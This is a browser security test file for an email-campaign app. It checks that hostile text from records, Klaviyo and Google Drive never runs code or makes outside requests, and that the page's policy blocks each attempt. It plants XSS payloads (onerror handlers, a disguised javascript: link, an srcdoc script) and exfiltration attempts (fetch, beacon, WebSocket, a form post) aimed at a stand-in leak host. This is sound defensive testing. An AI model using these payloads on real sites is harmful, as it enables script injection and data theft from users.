import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { openWindow, signIn } from '#tests/support/app.ts';
import { launchBrowser } from '#tests/support/browser.ts';
import { seededFolder } from '#tests/support/galley.ts';
import { describeUnless, missingBrowser } from '#tests/support/requirements.ts';
import { signInTo } from './support/galley.ts';
import { startHostileGalley } from './support/hostile-galley.ts';
import { makeHostileRecords } from './support/hostile-records.ts';
import { hostileBrand, LEAK, RAN } from './support/hostile-texts.ts';
import { type PageWatch, watchPage } from './support/page-watch.ts';
import { walkButtons } from './support/walk-buttons.ts';

/** Ends a hung walk. */
const WALK_MS = 900_000;

describeUnless(
  await missingBrowser(),
  'hostile texts of a file, a brand, a component, a model, Klaviyo and Google Drive',
  () => {
    // Separate, so that other files' leftovers do not show here.
    let galley: Awaited<ReturnType<typeof startHostileGalley>>;
    let browser: Browser;
    let window: BrowserContext;
    let page: Page;
    let watch: PageWatch;
    let screens: Record<string, string>;

    beforeAll(async () => {
      [browser, galley] = await Promise.all([launchBrowser(), startHostileGalley(seededFolder())]);
      const { session, batch } = await makeHostileRecords(await signInTo(galley.url), galley.dataDir);
      window = await openWindow(browser);
      page = await watchedPage();
      await page.goto(`${galley.url}/?client=${hostileBrand}`);
      await signIn(page);
      const own = `client=${hostileBrand}`;
      const calendar = `${own}&session=${session}`;
      screens = {
        home: `/?${own}`,
        brands: `/brands?${own}`,
        table: `/campaign-table?${calendar}`,
        findings: `/campaign-table?${calendar}&results=true`,
        month: `/campaign-table?${calendar}&view=calendar`,
        proofs: `/campaign-table?${calendar}&view=proofs`,
        start: `/batch-progress?${calendar}`,
        batch: `/batch-progress?${calendar}&batch=${batch}`,
        preview: `/preview/0?${calendar}`,
        components: `/components?${own}`,
        agents: `/agents?${own}`,
        brand: `/brand-settings?${own}`,
        connections: `/brand-settings?${own}&settings=connections`,
        'quick email': `/quick-email?${own}`,
      };
    });
    afterAll(async () => {
      await browser?.close();
      await galley?.close();
    });

    async function watchedPage(): Promise<Page> {
      const opened = await window.newPage();
      watch = await watchPage(opened, galley.url);
      return opened;
    }
    async function open(name: string): Promise<void> {
      await page.goto(galley.url + screens[name]);
      // More than the skeleton shown while records load.
      await expect
        .poll(() => page.evaluate<number>(`document.querySelector('main')?.innerText.length ?? 0`))
        .toBeGreaterThan(150);
      if (['proofs', 'brand', 'preview'].includes(name))
        await page.locator('main iframe').first().waitFor({ state: 'attached' });
      // Some texts come after the server's first answer, and some screens never stop polling.
      await page.waitForLoadState('networkidle', { timeout: 3_000 }).catch(() => undefined);
    }
    async function expectNothing(where: string): Promise<void> {
      expect([where, await watch.look()]).toEqual([where, []]);
    }

    it('run nothing and call nobody, on every screen', async () => {
      for (const name of Object.keys(screens)) {
        await open(name);
        await expectNothing(name);
      }
    });

    it('nor the answers of Klaviyo and Google Drive, where lists and pictures are shown', async () => {
      await open('brand');
      await page.getByRole('tab', { name: 'Connections' }).click();
      const lists = page.getByRole('group', { name: 'Audiences' });
      await expect.poll(() => lists.innerText()).toMatch(/Preview list \S+/);
      await expectNothing('the lists of a Klaviyo account');
      await page.getByRole('link', { name: 'Galley, home' }).click();
      const library = page.getByRole('complementary', { name: 'Asset library' });
      await library.getByRole('button', { name: /more assets$/ }).click();
      const all = page.getByRole('dialog');
      // A picture of the Drive folder, `60.png`, under the hostile name that Drive gives it.
      await expect.poll(() => all.innerText()).toMatch(/(?<![a-z0-9])60(?![a-z0-9])/i);
      await expectNothing('the pictures of a Drive folder');
    });

    it('nor an email in Klaviyo, and a brand proposed from what was sent with it', async () => {
      await open('preview');
      await page.getByRole('button', { name: 'Upload to Klaviyo', exact: true }).click();
      const dialog = page.getByRole('dialog', { name: 'Upload to Klaviyo' });
      await dialog.getByRole('button', { name: /^Upload/ }).waitFor();
      await expectNothing('what an upload will do');
      await dialog.getByRole('button', { name: /^Upload/ }).click();
      await dialog.getByText('Edited in Klaviyo since the last upload').waitFor();
      await expectNothing('what was edited in Klaviyo');
      await dialog.getByRole('button', { name: /^Replace/ }).click();
      await dialog.getByText('Updated in Klaviyo').waitFor();
      await expectNothing('the result of an upload');
      await page.goto(`${galley.url}${screens.brand}&propose=true`);
      await page.getByRole('button', { name: 'Read the Klaviyo account' }).click();
      await page.getByRole('button', { name: 'Read it again' }).waitFor();
      await expectNothing('what a Klaviyo account says about a brand');
      for (const tab of await page
        .getByRole('dialog')
        .getByRole('button', { name: /emails|proposal|next|see/i })
        .all()) {
        await tab.click({ timeout: 2_000 }).catch(() => undefined);
        await expectNothing('a proposal for a brand');
      }
    });

    it('nor where they are edited, searched and shown as code', async () => {
      await open('preview');
      await page.getByRole('button', { name: 'Edit', exact: true }).click();
      await page
        .getByRole('region', { name: /^Edit: / })
        .getByText('Preview is current')
        .waitFor();
      await expectNothing('the preview and the editor of an email');
      await open('table');
      await page
        .getByRole('button', { name: /^Edit Campaign/ })
        .first()
        .click();
      await page.getByRole('dialog', { name: 'Edit campaign details' }).waitFor();
      await expectNothing('the editor of a campaign');
      await page.keyboard.press('Escape');
      await page.getByRole('dialog').waitFor({ state: 'hidden' });
      await page.keyboard.press('ControlOrMeta+k');
      await page.getByRole('combobox').last().fill('script');
      await expectNothing('the command palette');
    });

    it(
      'nor behind any button, menu or tab of any screen',
      async () => {
        const pressed: Record<string, number> = {};
        for (const screen of Object.keys(screens))
          await walkButtons(
            page,
            pressed,
            () => open(screen),
            (button) => expectNothing(`${screen} > ${button}`),
          );
        expect(Object.keys(pressed).length).toBeGreaterThan(100);
      },
      WALK_MS,
    );

    it('would be caught: a handler, a script in an email, a foreign request and an address that is code', async () => {
      page = await watchedPage();
      await open('brand');
      const planted = `<img src=x onerror=${RAN}()><a href="java\tscript:${RAN}()">x</a><img src="https://${LEAK}/a.png">
      <iframe sandbox=allow-same-origin srcdoc="<script>parent.${RAN}()</script>"></iframe>`;
      await page.evaluate(
        `document.body.insertAdjacentHTML('beforeend', ${JSON.stringify(planted)}); ${RAN}()`,
      );
      const seen: string[] = [];
      await expect
        .poll(async () => {
          seen.push(...(await watch.look()));
          return seen.join('\n');
        })
        .toMatch(
          /(?=.*IMG onerror)(?=.*A href=java)(?=.*<SCRIPT>)(?=.*a request to)(?=.*ran 1 times)(?=.*the policy had)/s,
        );
    });

    it('could do little even in the page itself: it keeps nothing of a session, and its policy stops code, frames and requests to others', async () => {
      const stored = await page.evaluate<string>(
        `(async () => JSON.stringify([{ ...localStorage }, { ...sessionStorage }, document.cookie, await indexedDB.databases()]))()`,
      );
      expect(stored).not.toMatch(/eyJ[\w-]+\.|galley_rt|Bearer/);
      expect(await window.cookies()).toEqual([
        expect.objectContaining({ httpOnly: true, sameSite: 'Strict', path: '/auth' }),
      ]);
      const attempts: Record<string, string> = {
        'an inline script': `const s = document.createElement('script'); s.textContent = '${RAN}()'; document.body.append(s)`,
        'a foreign script': `const s = document.createElement('script'); s.src = 'https://${LEAK}/x.js'; document.body.append(s)`,
        'a script of the page’s own making': `const s = document.createElement('script'); s.src = URL.createObjectURL(new Blob(['${RAN}()'])); document.body.append(s)`,
        'a handler': `document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="${RAN}()">')`,
        'code from text': `try { setTimeout('${RAN}()') } catch {}`,
        'a foreign frame': `document.body.insertAdjacentHTML('beforeend', '<iframe src="https://${LEAK}/"></iframe>')`,
        'a plug-in': `document.body.insertAdjacentHTML('beforeend', '<object data="https://${LEAK}/"></object>')`,
        'a foreign style': `document.head.insertAdjacentHTML('beforeend', '<link rel=stylesheet href="https://${LEAK}/a.css">')`,
        'a foreign font': `new FontFace('a', 'url(https://${LEAK}/a.woff2)').load().catch(() => 0)`,
        'a call elsewhere': `fetch('https://${LEAK}/').catch(() => 0)`,
        'a beacon': `navigator.sendBeacon('https://${LEAK}/', 'x')`,
        'a socket': `try { new WebSocket('wss://${LEAK}/') } catch {}`,
        'a foreign form': `const f = document.createElement('form'); f.action = 'https://${LEAK}/'; f.method = 'post'; document.body.append(f); f.submit()`,
        'another base': `const b = document.createElement('base'); b.href = 'https://${LEAK}/'; document.head.append(b)`,
        'a worker': `try { new Worker(URL.createObjectURL(new Blob(['1']))) } catch {}`,
      };
      for (const [what, attempt] of Object.entries(attempts)) {
        await page.evaluate(`(() => { globalThis.__stopped = []; ${attempt}; })()`);
        await expect
          .poll(() => page.evaluate<number>('globalThis.__stopped.length'), { message: what })
          .toBeGreaterThan(0);
        expect([what, await page.evaluate('globalThis.__ran ?? 0')]).toEqual([what, 0]);
      }
      expect((await watch.look()).filter((seen) => seen.startsWith('a request'))).toEqual([]);
    });
  },
);
